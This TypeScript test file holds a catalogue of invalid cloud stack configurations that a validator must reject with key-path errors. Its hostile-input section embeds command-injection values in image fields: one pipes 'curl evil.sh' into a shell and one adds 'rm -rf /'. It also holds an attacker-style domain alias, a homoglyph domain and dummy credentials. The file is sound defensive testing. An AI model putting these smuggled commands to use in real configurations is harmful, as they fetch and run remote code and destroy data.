import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { stringify } from "yaml";
import { mocks } from "../plan/mocks";
import { ConfigError } from "../stacks/errors";
import { loadConfigMap, readStackFileConfig } from "../stacks/load";
import { config, expectInvalid } from "./support/harness";
import { planCliAsync } from "./support/cli";

/**
 * The bad-input catalogue: every config here must be refused by validation with a ConfigError
 * whose issue names the key path, before any resource exists. A sample also goes through the
 * CLI (exit 2, nothing on stdout, no stack trace).
 */

const svc = (extra: Record<string, unknown>) => [{ name: "web", port: 3000, routes: ["/*"], ...extra }];
const GCP = { "platform:clouds": ["gcp"], "platform:gcp": { project: "my-project-1" } };

/** [what, config overrides, key path of the issue, text the message must contain] */
export const BAD: [string, Record<string, unknown>, string, string | RegExp][] = [
    ["missing name", { "platform:name": undefined }, "platform:name", "is required"],
    ["name with capitals", { "platform:name": "MyApp" }, "platform:name", "lowercase letters"],
    ["name too long", { "platform:name": "a-very-long-application-name" }, "platform:name", "at most 16 characters"],
    ["unknown environment", { "platform:environment": "qa" }, "platform:environment", 'must be one of "dev", "staging", "prod"'],
    ["unknown top-level key", { "platform:servcies": [] }, "platform:servcies", 'did you mean "services"'],
    ["key without namespace", { name: "x" }, "name", 'write "platform:name"'],
    ["unknown cloud", { "platform:clouds": ["azure"] }, "platform:clouds[0]", '"aws", "gcp"'],
    ["empty clouds", { "platform:clouds": [] }, "platform:clouds", "at least one cloud"],
    ["cloud twice", { "platform:clouds": ["aws", "aws"] }, "platform:clouds", "must not name a cloud twice"],
    ["clouds as a string", { "platform:clouds": "aws" }, "platform:clouds", "must be a list"],
    ["no services", { "platform:services": [] }, "platform:services", "at least one service"],
    ["port out of range", { "platform:services": svc({ port: 70000 }) }, "platform:services[0].port", "integer from 1 to 65535 (got 70000)"],
    ["port as a string", { "platform:services": svc({ port: "3000" }) }, "platform:services[0].port", 'integer from 1 to 65535 (got "3000")'],
    ["fractional port", { "platform:services": svc({ port: 80.5 }) }, "platform:services[0].port", "integer"],
    ["routes without port", { "platform:services": [{ name: "web", routes: ["/*"] }] }, "platform:services[0].routes", "need a port"],
    ["route without slash", { "platform:services": svc({ routes: ["api/*"] }) }, "platform:services[0].routes[0]", 'starting with "/"'],
    ["empty routes", { "platform:services": svc({ routes: [] }) }, "platform:services[0].routes", "at least one path"],
    ["duplicate service names", { "platform:services": [{ name: "web", port: 1, routes: ["/a"] }, { name: "web", port: 2, routes: ["/b"] }] }, "platform:services[1].name", "must be unique"],
    ["route claimed twice", { "platform:services": [{ name: "a", port: 1, routes: ["/*"] }, { name: "b", port: 2, routes: ["/*"] }] }, "platform:services[1].routes[0]", 'already routed to service "a"'],
    ["min above max", { "platform:services": svc({ scaling: { min: 5, max: 2 } }) }, "platform:services[0].scaling.min", "must not exceed scaling.max (2)"],
    ["cpu target above 100", { "platform:services": svc({ scaling: { cpuTarget: 120 } }) }, "platform:services[0].scaling.cpuTarget", "from 1 to 100"],
    ["unknown service key", { "platform:services": svc({ prot: 1 }) }, "platform:services[0].prot", "is not a known key"],
    ["service name with underscore", { "platform:services": [{ name: "my_web", port: 1, routes: ["/"] }] }, "platform:services[0].name", "lowercase letters"],
    ["reserved service name", { "platform:services": [{ name: "database", port: 1, routes: ["/"] }] }, "platform:services[0].name", "reserved"],
    ["fargate pair that does not exist", { "platform:services": svc({ cpu: 256, memory: 4096 }) }, "platform:services[0].memory", "512, 1024 or 2048"],
    ["fargate cpu that does not exist", { "platform:services": svc({ cpu: 300, memory: 1024 }) }, "platform:services[0].memory", "Fargate CPU must be one of"],
    ["uses database without database", { "platform:services": svc({ uses: ["database"] }) }, "platform:services[0].uses[0]", "platform:database is not set"],
    ["uses unknown name", { "platform:services": svc({ uses: ["queue"] }) }, "platform:services[0].uses[0]", 'is not "database", "cache"'],
    ["secret not declared", { "platform:services": svc({ secrets: ["api-key"] }) }, "platform:services[0].secrets[0]", "not declared in platform:secrets"],
    ["public without routes", { "platform:services": [{ name: "web", port: 3000, expose: "public" }] }, "platform:services[0].routes", "required for a public service"],
    ["internal without port", { "platform:services": [{ name: "w", expose: "internal" }] }, "platform:services[0].port", "required for an internal service"],
    ["bad VPC CIDR prefix", { "platform:aws": { network: { cidr: "10.0.0.0/33" } } }, "platform:aws.network.cidr", "prefix above /32"],
    ["VPC CIDR with host bits", { "platform:aws": { network: { cidr: "10.0.1.0/16" } } }, "platform:aws.network.cidr", "host bits set"],
    ["VPC CIDR not a CIDR", { "platform:aws": { network: { cidr: "10.0.0.0" } } }, "platform:aws.network.cidr", "not an IPv4 CIDR"],
    ["VPC too large", { "platform:aws": { network: { cidr: "10.0.0.0/8" } } }, "platform:aws.network.cidr", "from /16 to /24"],
    ["subnet outside the VPC", { "platform:aws": { network: { cidr: "10.0.0.0/16", subnets: { public: ["10.1.0.0/24", "10.0.1.0/24"], private: ["10.0.2.0/24", "10.0.3.0/24"] } } } }, "platform:aws.network.subnets.public[0]", "outside the VPC block 10.0.0.0/16"],
    ["overlapping subnets", { "platform:aws": { network: { subnets: { public: ["10.0.0.0/24", "10.0.1.0/24"], private: ["10.0.0.0/20", "10.0.16.0/20"] } } } }, "platform:aws.network.subnets.private[0]", "overlaps subnets.public[0]"],
    ["subnet count differs from AZs", { "platform:aws": { network: { subnets: { public: ["10.0.0.0/24"], private: ["10.0.2.0/24", "10.0.3.0/24"] } } } }, "platform:aws.network.subnets.public", "must list 2 CIDR blocks"],
    ["data tier without isolated subnets", { "platform:database": {}, "platform:aws": { network: { subnets: { public: ["10.0.0.0/24", "10.0.1.0/24"], private: ["10.0.2.0/24", "10.0.3.0/24"] } } } }, "platform:aws.network.subnets.isolated", "data tier lives in isolated subnets"],
    ["NAT mode unknown", { "platform:aws": { network: { natGateways: "two" } } }, "platform:aws.network.natGateways", '"perAz", "single", "none"'],
    ["four AZs", { "platform:aws": { network: { azCount: 4 } } }, "platform:aws.network.azCount", "from 2 to 3"],
    ["misspelt network key", { "platform:aws": { netwrok: {} } }, "platform:aws.netwrok", 'did you mean "network"'],
    ["gcp without project", { "platform:clouds": ["gcp"] }, "platform:gcp.project", "is required"],
    ["gcp key while only on aws", { "platform:gcp": { project: "my-project-1" } }, "platform:gcp", 'clouds does not include "gcp"'],
    ["connector not a /28", { "platform:clouds": ["gcp"], "platform:gcp": { project: "my-project-1", network: { connector: { cidr: "10.8.0.0/24" } } } }, "platform:gcp.network.connector.cidr", "must be a /28"],
    ["connector overlaps subnet", { "platform:clouds": ["gcp"], "platform:gcp": { project: "my-project-1", network: { subnetCidr: "10.8.0.0/24", connector: { cidr: "10.8.0.0/28" } } } }, "platform:gcp.network.connector.cidr", "overlaps the subnet"],
    ["version as a YAML number", { "platform:database": { version: 16.3 } }, "platform:database.version", "quoted string"],
    ["instance class typo", { "platform:database": { instanceClass: "t4g.micro" } }, "platform:database.instanceClass", "db.t4g.micro"],
    ["backup window malformed", { "platform:database": { backupWindow: "3am-4am" } }, "platform:database.backupWindow", "hh:mm-hh:mm"],
    ["backup retention above 35", { "platform:database": { backupRetentionDays: 40 } }, "platform:database.backupRetentionDays", "from 0 to 35"],
    ["eviction policy unknown", { "platform:cache": { evictionPolicy: "lru" } }, "platform:cache.evictionPolicy", "allkeys-lru"],
    ["log retention not a CloudWatch value", { "platform:logRetentionDays": 10 } , "platform:logRetentionDays", "CloudWatch retention periods"],
    ["waf without a load balancer", { "platform:services": [{ name: "worker" }], "platform:aws": { waf: true } }, "platform:aws.waf", "needs a load balancer"],
    ["bad email", { "platform:alerts": { email: "ops-at-example" } }, "platform:alerts.email", "an email address"],
    ["target group name too long", { "platform:name": "averylongappname", "platform:stage": "production", "platform:services": [{ name: "frontend-service", port: 1, routes: ["/"] }] }, "platform:services[0].name", "AWS allows 32"],
    ["boolean as a string", { "platform:aws": { waf: "yes" } }, "platform:aws.waf", "true or false"],
    ["bucket referenced but missing", { "platform:services": svc({ permissions: { buckets: ["assets"] } }) }, "platform:services[0].permissions.buckets[0]", "not a bucket"],
    ["health check timeout not below interval", { "platform:services": svc({ healthCheck: { interval: 10, timeout: 10 } }) }, "platform:services[0].healthCheck.timeout", "shorter than healthCheck.interval"],
    // YAML oddities: numbers where strings are due, yes/no, null, empty lists, Infinity
    ["app name as a YAML number", { "platform:name": 123 }, "platform:name", "must be a string"],
    ["environment as a YAML number", { "platform:environment": 1 }, "platform:environment", "must be 'dev' | 'staging' | 'prod', not a number"],
    ["cache version as a YAML number", { "platform:cache": { version: 7.1 } }, "platform:cache.version", "quoted string"],
    ["image tag as a YAML number", { "platform:services": svc({ imageTag: 1.2 }) }, "platform:services[0].imageTag", "must be a string"],
    ["secret name as a number", { "platform:secrets": [123] }, "platform:secrets[0]", "must be a string"],
    ["tag value as a number", { "platform:tags": { team: 5 } }, "platform:tags.team", "must be a string"],
    ["log retention as words", { "platform:logRetentionDays": "thirty" }, "platform:logRetentionDays", "must be one of"],
    ["yes/no boolean", { "platform:aws": { containerInsights: "no" } }, "platform:aws.containerInsights", "true or false"],
    ["services null", { "platform:services": null }, "platform:services", "must be a list of services"],
    ["database null", { "platform:database": null }, "platform:database", "must be a mapping, not null"],
    ["port null", { "platform:services": svc({ port: null }) }, "platform:services[0].port", "integer from 1 to 65535"],
    ["empty command list", { "platform:services": svc({ command: [] }) }, "platform:services[0].command", "must not be empty"],
    ["empty health check command", { "platform:services": svc({ healthCheck: { command: [] } }) }, "platform:services[0].healthCheck.command", "must not be empty"],
    ["empty AZ list", { "platform:aws": { network: { azs: [] } } }, "platform:aws.network.azs", "2 or 3 zones"],
    ["infinite scaling max", { "platform:services": svc({ scaling: { max: Infinity } }) }, "platform:services[0].scaling.max", "integer from 1 to 1000"],
    ["negative desired count", { "platform:services": svc({ desiredCount: -1 }) }, "platform:services[0].desiredCount", "integer from 0 to 1000"],
    // names too long for ALB / target group / GCP limits
    ["stage too long", { "platform:stage": "production-eu" }, "platform:stage", "at most 10 characters"],
    ["service name too long", { "platform:services": [{ name: "a-very-long-service-name", port: 1, routes: ["/"] }] }, "platform:services[0].name", "at most 20 characters"],
    ["target group name over 32 from the environment", { "platform:name": "portfolio-site", "platform:environment": "staging", "platform:services": [{ name: "frontend-web", port: 1, routes: ["/"] }] }, "platform:services[0].name", "AWS allows 32"],
    ["GCP project id too long", { ...GCP, "platform:gcp": { project: "a-project-id-that-is-far-too-long-for-gcp" } }, "platform:gcp.project", "6-30 lowercase"],
    ["bucket name too long", { "platform:buckets": [{ name: "assets-and-uploads-bucket" }] }, "platform:buckets[0].name", "at most 20 characters"],
    ["uppercase domain", { "platform:domain": { name: "Example.COM" } }, "platform:domain.name", "lowercase domain"],
    // invalid windows
    ["maintenance hour 25", { "platform:database": { maintenanceWindow: "mon:25:00-mon:26:00" } }, "platform:database.maintenanceWindow", "ddd:hh:mm-ddd:hh:mm"],
    ["maintenance day unknown", { "platform:cache": { maintenanceWindow: "fun:04:00-fun:05:00" } }, "platform:cache.maintenanceWindow", "ddd:hh:mm-ddd:hh:mm"],
    ["backup window under 30 minutes", { "platform:database": { backupWindow: "03:00-03:10" } }, "platform:database.backupWindow", "at least 30 minutes"],
    ["snapshot window under 30 minutes across midnight", { "platform:cache": { snapshotWindow: "23:50-00:10" } }, "platform:cache.snapshotWindow", "at least 30 minutes"],
    ["maintenance window under 30 minutes", { "platform:database": { maintenanceWindow: "sun:05:00-sun:05:15" } }, "platform:database.maintenanceWindow", "at least 30 minutes"],
    ["backup window overlaps the maintenance window", { "platform:database": { backupWindow: "04:00-05:00", maintenanceWindow: "mon:04:30-mon:05:30" } }, "platform:database.backupWindow", "overlaps the maintenance window"],
    // Fargate pairs that do not exist
    ["4 vCPU with 4 GB", { "platform:services": svc({ cpu: 4096, memory: 4096 }) }, "platform:services[0].memory", "8192 to 30720"],
    ["1 vCPU with 1.5 GB", { "platform:services": svc({ cpu: 1024, memory: 1536 }) }, "platform:services[0].memory", "2048 to 8192"],
    ["cpu alone that Fargate lacks", { "platform:services": svc({ cpu: 768 }) }, "platform:services[0].cpu", "Fargate CPU must be one of"],
    // conflicting options
    ["perService load balancers with no public service", { "platform:services": [{ name: "worker" }], "platform:aws": { loadBalancers: "perService" } }, "platform:aws.loadBalancers", "at least one public service"],
    ["aws settings on a GCP-only stack", { ...GCP, "platform:aws": { waf: true } }, "platform:aws", 'clouds does not include "aws"'],
    ["discovery without a port", { "platform:services": [...svc({}), { name: "worker", discovery: true }] }, "platform:services[1].discovery", "needs a port"],
    ["EFS volumes on a GCP-only stack", { ...GCP, "platform:services": svc({ volumes: [{ name: "data", mountPath: "/data", efs: { path: "/data" } }] }) }, "platform:services[0].volumes[0]", "the gcp renderer does not build"],
    ["EFS volumes on both clouds (GCP would drop them)", { ...GCP, "platform:clouds": ["aws", "gcp"], "platform:services": svc({ volumes: [{ name: "data", mountPath: "/data", efs: { path: "/data" } }] }) }, "platform:services[0].volumes[0]", 'remove "gcp" from platform:clouds'],
    ["SES permission on both clouds (no GCP equivalent)", { ...GCP, "platform:clouds": ["aws", "gcp"], "platform:services": svc({ permissions: { ses: true } }) }, "platform:services[0].permissions.ses", "no equivalent"],
    ["desired count above max", { "platform:services": svc({ desiredCount: 5, scaling: { min: 1, max: 3 } }) }, "platform:services[0].desiredCount", "must not exceed scaling.max"],
    ["ASG min above max", { "platform:aws": { compute: { type: "ec2", min: 4, max: 2 } } }, "platform:aws.compute.min", "must not exceed aws.compute.max"],
    ["storage ceiling below storage", { "platform:database": { allocatedStorage: 100, maxAllocatedStorage: 50 } }, "platform:database.maxAllocatedStorage", "at least allocatedStorage"],
    ["connector min not below max", { ...GCP, "platform:gcp": { project: "my-project-1", network: { connector: { minInstances: 5, maxInstances: 5 } } } }, "platform:gcp.network.connector.minInstances", "below maxInstances"],
    ["Cloud Run min above max", { ...GCP, "platform:services": svc({ gcp: { minInstances: 5, maxInstances: 2 } }) }, "platform:services[0].gcp.minInstances", "must not exceed gcp.maxInstances"],
    ["service uses itself", { "platform:services": svc({ uses: ["web"] }) }, "platform:services[0].uses[0]", "refers to the service itself"],
    ["service uses a worker without a port", { "platform:services": [...svc({ uses: ["worker"] }), { name: "worker" }] }, "platform:services[0].uses[0]", "has no port"],
    ["AZs of another region", { "platform:aws": { region: "us-east-1", network: { azs: ["eu-west-1a", "eu-west-1b"] } } }, "platform:aws.network.azs[0]", "not a zone of region us-east-1"],
    ["route listed twice in one service", { "platform:services": svc({ routes: ["/a", "/a"] }) }, "platform:services[0].routes[1]", "listed twice"],
    ["duplicate bucket names", { "platform:buckets": [{ name: "assets" }, { name: "assets" }] }, "platform:buckets[1].name", "names must be unique"],
    ["duplicate secret names", { "platform:secrets": ["api-key", "api-key"] }, "platform:secrets[1]", "names must be unique"],
    // other shapes
    ["invalid environment variable name", { "platform:services": svc({ environment: { "1BAD": "x" } }) }, "platform:services[0].environment.1BAD", "not a valid environment variable name"],
    ["misspelt health check key", { "platform:services": svc({ healthCheck: { pth: "/" } }) }, "platform:services[0].healthCheck.pth", 'did you mean "path"'],
    ["health check matcher not HTTP codes", { "platform:services": svc({ healthCheck: { matcher: "ok" } }) }, "platform:services[0].healthCheck.matcher", "HTTP codes"],
    ["hosted zone id malformed", { "platform:domain": { name: "example.com", zoneId: "abc" } }, "platform:domain.zoneId", "Route 53 hosted zone id"],
    ["ECR keeps zero images", { "platform:aws": { ecr: { keepTagged: 0 } } }, "platform:aws.ecr.keepTagged", "from 1 to 1000"],
    ["six cache replicas", { "platform:cache": { replicas: 6 } }, "platform:cache.replicas", "from 0 to 5"],
    ["alarm threshold zero", { "platform:alerts": { cpuPercent: 0 } }, "platform:alerts.cpuPercent", "from 1 to 100"],
    ["compute type missing", { "platform:aws": { compute: { instanceType: "t3.medium" } } }, "platform:aws.compute.type", "is required"],
    // provider limits (components/limits.ts, stacks/checks/limits.ts)
    ["instance class size typo", { "platform:database": { instanceClass: "db.m6g.lrage" } }, "platform:database.instanceClass", 'did you mean "db.m6g.large"'],
    ["redis major version alone", { "platform:cache": { version: "7" } }, "platform:cache.version", "<major>.<minor>"],
    ["app name giving an internal- ALB", { "platform:name": "internal-tools" }, "platform:name", 'must not start with "internal-"'],
    ["service named like the database alarms", { "platform:services": [{ name: "db", port: 1, routes: ["/*"] }] }, "platform:services[0].name", "reserved service names"],
    ["secret named like the cache token", { "platform:secrets": ["redis-auth-token"] }, "platform:secrets[0]", "reserved secret names"],
    ["container health check timeout over 60", { "platform:services": svc({ healthCheck: { command: ["CMD", "true"], timeout: 61, interval: 120 } }) }, "platform:services[0].healthCheck.timeout", "at most 60"],
    ["EFS path five levels deep", { "platform:services": svc({ volumes: [{ name: "d", mountPath: "/d", efs: { path: "/a/b/c/d/e" } }] }) }, "platform:services[0].volumes[0].efs.path", "up to four levels"],
    ["expiry before the IA transition", { "platform:buckets": [{ name: "b", lifecycle: { transitionToIaDays: 90, expireDays: 60 } }] }, "platform:buckets[0].lifecycle.expireDays", "after lifecycle.transitionToIaDays"],
    ["Cloud Run reserved variable", { ...GCP, "platform:services": svc({ environment: { K_SERVICE: "x" } }) }, "platform:services[0].environment.K_SERVICE", "set by Cloud Run"],
    ["fractional Cloud Run CPU", { ...GCP, "platform:services": svc({ gcp: { cpu: "0.5", concurrency: 1, cpuIdle: true } }) }, "platform:services[0].gcp.cpu", "first-generation"],
    ["tag key in the aws: namespace", { "platform:tags": { "aws:owner": "me" } }, "platform:tags.aws:owner", 'must not start with "aws:"'],
    // hostile and sloppy input (issue 16): stacks/checks/input-safety.ts, stacks/checks/prod-safety.ts
    ["image with shell metacharacters", { "platform:services": svc({ image: "nginx; curl evil.sh | sh" }) }, "platform:services[0].image", "not an image reference"],
    ["image with a newline", { "platform:services": svc({ image: "nginx\nRUN rm -rf /" }) }, "platform:services[0].image", "no spaces, quotes or shell characters"],
    ["image with capitals in the name", { "platform:services": svc({ image: "MyOrg/App:1.0" }) }, "platform:services[0].image", "lowercase name"],
    ["image with a short digest", { "platform:services": svc({ image: "nginx@sha256:abc" }) }, "platform:services[0].image", "@sha256:digest"],
    ["wildcard alias", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["*.example.com"] } }, "platform:domain.aliases[0]", "is a wildcard"],
    ["alias outside the zone", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["evil.attacker.net"] } }, "platform:domain.aliases[0]", "not in the zone example.com"],
    ["homoglyph alias", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["www.ex\u0430mple.com"] } }, "platform:domain.aliases[0]", "look-alike Unicode"],
    ["alias with a newline", { "platform:domain": { name: "app.example.com", zoneName: "example.com", aliases: ["x\ny.example.com"] } }, "platform:domain.aliases[0]", "not a host name"],
    ["zone name climbing out", { "platform:domain": { name: "app.example.com", zoneName: "../other" } }, "platform:domain.zoneName", "is not a zone name"],
    ["domain outside its zone", { "platform:domain": { name: "app.example.com", zoneName: "example.org" } }, "platform:domain.name", "not in the zone example.org"],
    ["tag key with the aws: prefix", { "platform:tags": { "aws:cloudformation:stack-name": "x" } }, "platform:tags.aws:cloudformation:stack-name", "reserves"],
    ["tag value with forbidden characters", { "platform:tags": { team: "a;b<c>" } }, "platform:tags.team", "characters AWS tags do not allow"],
    ["tag key too long", { "platform:tags": { ["k".repeat(129)]: "x" } }, `platform:tags.${"k".repeat(129)}`, "1 to 128 characters"],
    ["plaintext password in environment", { "platform:services": svc({ environment: { DB_PASSWORD: "hunter2" } }) }, "platform:services[0].environment.DB_PASSWORD", "platform:secrets"],
    ["database URL with a password", { "platform:services": svc({ environment: { DATABASE_URL: "postgres://app:hunter2@db:5432/app" } }) }, "platform:services[0].environment.DATABASE_URL", "value not shown"],
    ["API key in environment", { "platform:services": svc({ environment: { STRIPE_API_KEY: "sk_live_123" } }) }, "platform:services[0].environment.STRIPE_API_KEY", "looks like a credential"],
    ["environment shadows a database link", { "platform:database": {}, "platform:services": svc({ uses: ["database"], environment: { DATABASE_HOST: "evil.example.com" } }) }, "platform:services[0].environment.DATABASE_HOST", "set by the link (uses: database)"],
    ["app secret replaces the database password", { "platform:database": {}, "platform:secrets": ["database-password"], "platform:services": svc({ uses: ["database"], secrets: ["database-password"] }) }, "platform:services[0].secrets[0]", "DATABASE_PASSWORD"],
    ["secret and environment with one name", { "platform:secrets": ["api-key"], "platform:services": svc({ secrets: ["api-key"], environment: { API_KEY_X: "1", API_KEY: "ref" } }) }, "platform:services[0].secrets[0]", "environment.API_KEY also sets"],
    ["25,000 environment variables", { "platform:services": svc({ environment: Object.fromEntries(Array.from({ length: 25000 }, (_, k) => [`V${k}`, "x"])) }) }, "platform:services[0].environment", "at most 1000"],
    ["environment over 32 KiB", { "platform:services": svc({ environment: { BIG: "x".repeat(40000) } }) }, "platform:services[0].environment", "bytes of names and values"],
    ["Cloud Run reserved variable PORT", { ...GCP, "platform:services": svc({ environment: { PORT: "8080" } }) }, "platform:services[0].environment.PORT", "reserved by Cloud Run"],
    ["prod public app without a domain", { "platform:environment": "prod" }, "platform:domain", "allowHttp: true"],
    ["ECS Exec in prod without the switch", { "platform:environment": "prod", "platform:allowHttp": true, "platform:services": svc({ exec: true }) }, "platform:services[0].exec", "allowExecInProd"],
    ["unknown egress mode", { "platform:aws": { egress: "none" } }, "platform:aws.egress", '"restricted", "open"'],
    ["SES identity that is not a domain", { "platform:services": svc({ permissions: { ses: { identities: ["not an identity"] } } }) }, "platform:services[0].permissions.ses.identities[0]", "verified SES identity"],
    ["SNS topic with a wildcard", { "platform:services": svc({ permissions: { sns: { topics: ["*"] } } }) }, "platform:services[0].permissions.sns.topics[0]", "SNS topic name"],
];

const STACK_HEAD = "config:\n  platform:name: app\n  platform:environment: dev\n";
const WEB = "  platform:services: [{ name: web, port: 3000, routes: ['/*'] }]\n";

/** Stack files as written by hand: YAML that parses, but not to what the author meant. [what, file text, key path, text] */
export const BAD_YAML: [string, string, string, string | RegExp][] = [
    ["waf: yes (YAML 1.2 reads a string)", STACK_HEAD + WEB + "  platform:aws: { waf: yes }\n", "platform:aws.waf", "true or false"],
    ["version 16.10 unquoted (reads 16.1)", STACK_HEAD + WEB + "  platform:database: { version: 16.10 }\n", "platform:database.version", "quoted string"],
    ["services: ~ (null)", STACK_HEAD + "  platform:services: ~\n", "platform:services", "must be a list of services"],
    ["name: 0123 (a number)", "config:\n  platform:name: 0123\n  platform:environment: dev\n" + WEB, "platform:name", "must be a string"],
    ["clouds: aws (not a list)", STACK_HEAD + WEB + "  platform:clouds: aws\n", "platform:clouds", "must be a list"],
    ["routes: [] (empty list)", STACK_HEAD + "  platform:services: [{ name: web, port: 3000, routes: [] }]\n", "platform:services[0].routes", "at least one path"],
    ["port: 3000/tcp (a string)", STACK_HEAD + "  platform:services: [{ name: web, port: 3000/tcp, routes: ['/*'] }]\n", "platform:services[0].port", "integer from 1 to 65535"],
    ["maintenance window as a time", STACK_HEAD + WEB + "  platform:database: { maintenanceWindow: 04:00 }\n", "platform:database.maintenanceWindow", "ddd:hh:mm-ddd:hh:mm"],
];

function writeStack(dir: string, name: string, text: string): string {
    const file = path.join(dir, `${name}.yaml`);
    fs.writeFileSync(file, text);
    return file;
}


describe("bad input catalogue", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bad-input-"));
    let created = 0;
    const newResource = mocks.newResource.bind(mocks);
    before(() => {
        // Counts every resource the mocks are asked to create while the catalogue runs.
        mocks.newResource = (args) => { created++; return newResource(args); };
    });
    after(() => {
        mocks.newResource = newResource;
    });

    it(`has at least 60 entries (${BAD.length + BAD_YAML.length}) with distinct descriptions`, () => {
        const names = [...BAD, ...BAD_YAML].map((b) => b[0]);
        assert.ok(names.length >= 60);
        assert.strictEqual(new Set(names).size, names.length, "duplicate descriptions");
    });

    for (const [what, overrides, keyPath, text] of BAD) {
        it(`rejects ${what} at ${keyPath}`, () => {
            expectInvalid(config(overrides), keyPath, text);
        });
    }

    for (const [what, text, keyPath, message] of BAD_YAML) {
        it(`rejects the stack file with ${what} at ${keyPath}`, () => {
            const map = readStackFileConfig(writeStack(dir, "odd", text));
            expectInvalid(map, keyPath, message);
        });
    }

    it("refuses a key given twice in one mapping, naming it and its line, and reads 25,000 distinct keys", () => {
        const twice = STACK_HEAD + WEB + "  platform:database: { version: '16' }\n  platform:database: { version: '17' }\n";
        assert.throws(() => readStackFileConfig(writeStack(dir, "twice", twice)),
            (e: unknown) => e instanceof ConfigError && /\(yaml\): is not valid YAML: Map keys must be unique; "platform:database" is repeated \(line 6\)/.test(e.message));
        const many = Array.from({ length: 25000 }, (_, k) => `      V${k}: x\n`).join("");
        const big = STACK_HEAD + "  platform:services:\n  - name: web\n    port: 3000\n    routes: ['/*']\n    environment:\n" + many;
        const map = readStackFileConfig(writeStack(dir, "many", big));
        assert.strictEqual(Object.keys((map["platform:services"] as { environment: object }[])[0].environment).length, 25000);
    });

    it("created no resource for any of them", () => {
        assert.strictEqual(created, 0);
    });

    it("exits 2 through the CLI with the key on stderr, nothing on stdout and no stack trace (a sample)", async function () {
        this.timeout(120000);
        const sample = [
            ...BAD.filter((_, i) => i % 40 === 0).map(([what, overrides, keyPath]) => ({ what, text: stringify({ config: config(overrides) }), keyPath })),
            ...BAD_YAML.filter((_, i) => i % 8 === 0).map(([what, text, keyPath]) => ({ what, text, keyPath })),
        ];
        assert.ok(sample.length >= 4);
        const results = await Promise.all(sample.map((s, i) => planCliAsync(writeStack(dir, `cli-${i}`, s.text))));
        results.forEach((r, i) => {
            const { what, keyPath } = sample[i];
            assert.strictEqual(r.code, 2, `${what}: exit ${r.code}\n${r.stderr}`);
            assert.strictEqual(r.stdout, "", `${what}: printed on stdout`);
            assert.ok(r.stderr.includes(`${keyPath}:`), `${what}: stderr does not name ${keyPath}:\n${r.stderr}`);
            assert.doesNotMatch(r.stderr, /^\s{4}at /m, `${what}: stack trace on stderr`);
        });
    });

    const hostile = () => BAD.slice(BAD.findIndex((b) => b[0] === "image with shell metacharacters"));

    it("never echoes a credential in the message the CLI prints, for any hostile input", () => {
        assert.ok(hostile().length >= 25);
        for (const [what, overrides] of hostile()) {
            let message = "";
            try {
                loadConfigMap(config(overrides), "hostile.yaml");
            } catch (e) {
                message = (e as Error).message;
            }
            assert.ok(message, `${what}: accepted`);
            assert.doesNotMatch(message, /hunter2|sk_live_123/, `${what}: echoed a credential`);
            assert.ok(message.length < 5000, `${what}: ${message.length} characters of message`);
        }
    });

    it("exits 2 through the CLI for hostile input (a sample: shell image, newline alias, 25,000 variables, a password)", async function () {
        this.timeout(600000);
        const pick = ["image with shell metacharacters", "alias with a newline", "25,000 environment variables", "database URL with a password"];
        const sample = hostile().filter((b) => pick.includes(b[0])).map(([what, overrides, keyPath]) => ({ what, text: stringify({ config: config(overrides) }), keyPath }));
        assert.strictEqual(sample.length, pick.length);
        const results = await Promise.all(sample.map((h, i) => planCliAsync(writeStack(dir, `hostile-${i}`, h.text))));
        results.forEach((r, i) => {
            const { what, keyPath } = sample[i];
            assert.strictEqual(r.code, 2, `${what}: exit ${r.code}\n${r.stderr.slice(0, 2000)}`);
            assert.strictEqual(r.stdout, "", `${what}: printed on stdout`);
            assert.ok(r.stderr.includes(`${keyPath}:`), `${what}: stderr does not name ${keyPath}:\n${r.stderr.slice(0, 2000)}`);
            assert.doesNotMatch(r.stderr, /hunter2/, `${what}: echoed a credential`);
        });
    });

    it("keeps ConfigError distinct from crashes", () => {
        assert.ok(new ConfigError("x", []) instanceof Error);
    });
});
